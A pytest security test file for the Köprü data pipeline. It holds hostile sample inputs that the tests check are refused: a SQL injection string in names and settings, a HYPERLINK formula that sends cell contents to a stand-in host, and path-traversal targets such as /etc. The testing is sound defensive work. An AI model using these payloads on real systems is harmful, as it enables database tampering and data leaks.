"""Attacks on Köprü's settings, paths, SQL and outputs, each played against the real thing: injection through an NGO
mapping's name and the quality levels, formulas in XLSX outputs, paths outside the allowed folders, a pseudonym key
raced into existence or swapped, and the operator's known failures as one sentence and a non-zero exit."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest

HOSTILE_CODE = "x'); create table quality.pwned as select current_user; --"


def kopru(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kopru.cli", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=300)


def test_an_ngo_mapping_named_with_sql_runs_no_sql(tmp_path, monkeypatch, db):
    from kopru import config
    from kopru.quality import gx

    mappings = tmp_path / "mappings"
    shutil.copytree(config.PACKAGE_DATA / "ngo_mappings", mappings)
    hostile = (mappings / "kizilay_ilce.yml").read_text(encoding="utf-8").replace(
        "ngo_code: kizilay_ilce", f'ngo_code: "{HOSTILE_CODE}"')
    (mappings / f"{HOSTILE_CODE}.yml").write_text(hostile, encoding="utf-8")
    monkeypatch.setenv("KOPRU_NGO_MAPPINGS", str(mappings))
    gx.fill_feed_batches(db)
    assert db.execute("select to_regclass('quality.pwned')").fetchone()[0] is None
    assert db.execute("select to_regclass('quality.unpublished_rows__stk__ids')").fetchone()[0] is not None
    query = gx.feed_batches()[gx.NGO_IDS_BATCH]
    assert "kizilay_ilce" in query and "pwned" not in query


def test_a_file_named_with_sql_is_rejected_by_its_name(tmp_path, warehouse_url):
    from support import land_file

    result, _, _ = land_file(tmp_path, f"stk_{HOSTILE_CODE}_202401.csv", b"a;b\n1;2\n")
    assert (result.status, result.reason_code) == ("rejected", "bad_file_name")


def test_quality_levels_cannot_name_sql_as_a_feed():
    from kopru.quality import gx

    levels = gx.quality_levels()
    levels["feeds"]["volume_checked_feeds"] = ["belediye/aid", "belediye/aid') or true; --"]
    with pytest.raises(ValueError, match="volume_checked_feeds names feeds the contract does not have"):
        gx.volume_checked_feeds(levels)
    assert ("belediye", "aid") in gx.volume_checked_feeds(gx.quality_levels())


def test_no_text_in_an_xlsx_output_becomes_a_formula(tmp_path):
    from kopru.reports import xlsx
    from openpyxl import Workbook, load_workbook

    attack = '=HYPERLINK("http://example.invalid/?"&A2,"Ayrıntı")'
    book = Workbook()
    book.active.append(["Mahalle", "Ret nedeni", "Aile"])
    book.active.append([attack, "=1+1", 12])
    xlsx.save(book, tmp_path / "out.xlsx")
    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cells = {cell.value: cell.data_type for row in load_workbook(tmp_path / "out.xlsx").active for cell in row}
    assert cells[attack] == "s" and cells["=1+1"] == "s" and cells[12] == "n"
    assert (tmp_path / "out.xlsx").stat().st_mode & 0o777 == 0o600
    # Every workbook the reports write goes through that save.
    reports = Path(__file__).parents[1] / "plugins/kopru/reports"
    savers = [p.name for p in reports.glob("*.py") if re.search(r"(?<!xlsx)\.save\(", p.read_text())
              and p.name != "xlsx.py"]
    assert savers == []


def test_a_streamed_workbook_types_text_as_text_and_goes_on_past_a_sheets_row_limit(tmp_path):
    """The report's workbook is written row by row (bounded memory): no delivered text becomes a formula there
    either, and a list longer than a sheet holds goes on in continuation sheets, each with its header."""
    from kopru.reports import xlsx
    from openpyxl import load_workbook

    attack = '=HYPERLINK("http://example.invalid/?"&A2,"Ayrıntı")'
    book = xlsx.StreamedBook("Örnek veri", rows_per_sheet=3)
    rows = [[attack if n == 4 else f"Y{n}", 1.5, n] for n in range(1, 8)]
    assert book.sheet("ISAS eksik kayıtlar", ["Yardım no", "Tutar", "Gün"], iter(rows)) == 3
    book.sheet("Boş", ["Kod"], [])
    book.write_to(tmp_path / "out.xlsx")
    assert (tmp_path / "out.xlsx").stat().st_mode & 0o777 == 0o600
    archive = zipfile.ZipFile(tmp_path / "out.xlsx")
    assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))
    saved = load_workbook(tmp_path / "out.xlsx")
    assert saved.sheetnames == ["ISAS eksik kayıtlar", "ISAS eksik kayıtlar (2)", "ISAS eksik kayıtlar (3)", "Boş"]
    listed = [row for name in saved.sheetnames[:3] for row in saved[name].iter_rows(min_row=2, values_only=True)]
    assert [list(row[:3]) for row in listed] == rows  # the fourth column holds the note, in the header only
    assert all([c.value for c in saved[name][1]] == ["Yardım no", "Tutar", "Gün", "Örnek veri"]
               for name in saved.sheetnames[:3])
    cell = saved["ISAS eksik kayıtlar (2)"]["A2"]
    assert cell.value == attack and cell.data_type == "s"
    assert saved["ISAS eksik kayıtlar"]["B2"].number_format == "#,##0.00"


@pytest.mark.parametrize("out", ["/etc/kopru", "{home}/../../../etc", "{home}/outputs/../../elsewhere"])
def test_a_report_folder_outside_the_allowed_roots_is_refused(out, kopru_home, warehouse_url):
    from kopru import config
    from kopru.orchestration.tasks import write_due_reports

    target = out.format(home=kopru_home)
    done = kopru("report", "--period", "2024", "--out", target, env={"KOPRU_ALLOWED_PATHS": ""})
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith(f"kopru: the report folder {target!r} is outside the folders Köprü may use")
    os.environ["KOPRU_ALLOWED_PATHS"], saved = "", os.environ.get("KOPRU_ALLOWED_PATHS", "")
    try:
        with pytest.raises(config.PathNotAllowed):
            write_due_reports(date(2025, 1, 5), target)  # the reports DAG's params take this path
    finally:
        os.environ["KOPRU_ALLOWED_PATHS"] = saved
    assert not Path("/etc/kopru").exists()


def test_an_inbox_param_outside_the_allowed_roots_is_refused(warehouse_url):
    from kopru import config
    from kopru.orchestration.tasks import ingest_family

    with pytest.raises(config.PathNotAllowed, match="the inbox '/etc' is outside"):
        ingest_family("belediye", "/etc")


@pytest.mark.parametrize(("args", "sentence"), [
    (["report", "--period", "2024-H3"], "'2024-H3' is not a period"),
    (["report", "--period", "2024-H1\n"], "is not a period"),
    (["ingest", "--inbox", "{home}/no-such-inbox"], "does not exist or is not a folder"),
    (["run", "--inbox", "{home}/no-such-inbox"], "does not exist or is not a folder"),
])
def test_known_failures_are_one_sentence_and_a_non_zero_exit(args, sentence, kopru_home):
    done = kopru(*(a.format(home=kopru_home) for a in args))
    assert done.returncode == 2 and sentence in done.stderr and "Traceback" not in done.stderr


def test_a_warehouse_that_never_ran_or_has_published_nothing_is_one_sentence(tmp_path, warehouse_url):
    home = tmp_path / "fresh_home"
    done = kopru("report", "--period", "2024-H1", env={"KOPRU_HOME": str(home)})
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "was never started: run `kopru warehouse start`" in done.stderr
    from kopru import warehouse

    with warehouse.scratch_database("kopru_nothing_published", warehouse_url) as url:
        done = kopru("report", "--period", "2024-H1", env={"KOPRU_WAREHOUSE_URL": url})
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "kopru: the warehouse has no published marts to read yet" in done.stderr


def test_the_pseudonym_key_is_one_and_never_empty_when_processes_race_to_create_it(tmp_path):
    program = "from kopru import config; print(config.pseudonym_key().decode())"
    env = {k: v for k, v in os.environ.items() if k != "KOPRU_PSEUDONYM_KEY"}
    keys_by_home = {}
    for index in range(25):
        home = tmp_path / f"home{index}"
        racers = [subprocess.Popen([sys.executable, "-c", program], env={**env, "KOPRU_HOME": str(home)},
                                   stdout=subprocess.PIPE, text=True) for _ in range(4)]
        keys_by_home[home] = {racer.communicate(timeout=60)[0].strip() for racer in racers}
    assert all(len(keys) == 1 and "" not in keys for keys in keys_by_home.values()), keys_by_home
    assert all((home / "secrets/pseudonym_key").read_text() in keys for home, keys in keys_by_home.items())
    assert not [p for home in keys_by_home for p in (home / "secrets").iterdir() if p.name.startswith(".")]


def test_a_run_with_another_pseudonym_key_refuses_to_load(tmp_path, warehouse_url, monkeypatch):
    from kopru import warehouse
    from kopru.ingest.loader import ingest_inbox
    from kopru.ingest.manifest import PseudonymKeyMismatch

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "belediye_surveys_20240105.csv").write_text(
        "response_id,survey_wave,responded_on,household_id,channel,q_satisfaction,q_fairness,comment\n"
        "R1,2024-H1,2024-01-04,,telefon,5,4,\n", encoding="utf-8")
    with warehouse.scratch_database("kopru_key_fingerprint", warehouse_url) as url:
        monkeypatch.setenv("KOPRU_PSEUDONYM_KEY", "the-warehouse-key")
        assert [r.status for r in ingest_inbox(inbox)] == ["loaded"]
        (inbox / "belediye_surveys_20240106.csv").write_bytes(
            (inbox / "belediye_surveys_20240105.csv").read_bytes().replace(b"R1,", b"R2,"))
        monkeypatch.setenv("KOPRU_PSEUDONYM_KEY", "another-key")
        with pytest.raises(PseudonymKeyMismatch, match="not the one this warehouse was loaded with"):
            ingest_inbox(inbox)
        done = kopru("ingest", "--inbox", str(inbox), env={"KOPRU_WAREHOUSE_URL": url})
        assert done.returncode == 2 and "Traceback" not in done.stderr and "nothing was loaded" in done.stderr
        with warehouse.connect() as conn:
            assert conn.execute("select count(*) from ingest.files").fetchone()[0] == 1
        monkeypatch.setenv("KOPRU_PSEUDONYM_KEY", "the-warehouse-key")
        assert [r.status for r in ingest_inbox(inbox)] == ["duplicate_file", "loaded"]


def test_the_server_log_holds_no_delivered_value_and_records_connections(tmp_path, warehouse_url):
    """A row COPY cannot frame makes PostgreSQL report the offending line as the error's CONTEXT; with the
    warehouse's settings that line, national ID included, never reaches the server log."""
    from kopru import warehouse
    from kopru.identity import check_digits
    from support import land_file

    tckn = "38291" + "7460" + "3"
    tckn = tckn[:9] + check_digits(tckn[:9])
    header = "referral_id,person_id,tckn,referred_on,channel,program,referred_by"
    data = f"{header}\nR-LOG-1,P-LOG-1,{tckn},2029-01-02,iskur,program,unit,one field too many\n".encode()
    result, reasons, _ = land_file(tmp_path, "belediye_employment_referrals_20290103.csv", data)
    assert result.status == "loaded" and reasons == {1: "malformed_row"}
    log = warehouse.embedded().log_file.read_text(errors="replace")
    assert "extra data after last expected column" in log  # the COPY did fail, and was logged
    assert tckn not in log
    assert "connection authorized" in log
